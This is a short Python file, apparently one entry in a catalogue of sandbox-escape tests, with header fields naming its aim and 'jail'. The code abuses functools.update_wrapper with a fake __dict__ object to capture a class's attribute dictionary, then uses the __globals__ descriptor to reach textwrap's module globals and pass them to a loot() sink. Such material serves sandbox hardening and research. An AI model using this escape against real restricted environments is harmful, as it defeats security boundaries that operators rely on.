# aim: have update_wrapper hand over the variables of a class
# mechanism: wrapper.__dict__ may be an object with an update method
# language: builtins
# reason: a class's variables are shown without what the name table refuses
# jail: process
# plain: loot

import functools
import textwrap

got = []


class Thief:
    def update(self, variables):
        got.append(variables)


class Wrapper:
    def __getattribute__(self, name):
        return Thief() if name == "__dict__" else object.__getattribute__(self, name)


functools.update_wrapper(Wrapper(), type(lambda: 0))
loot(got[0]["__globals__"].__get__(textwrap.dedent))
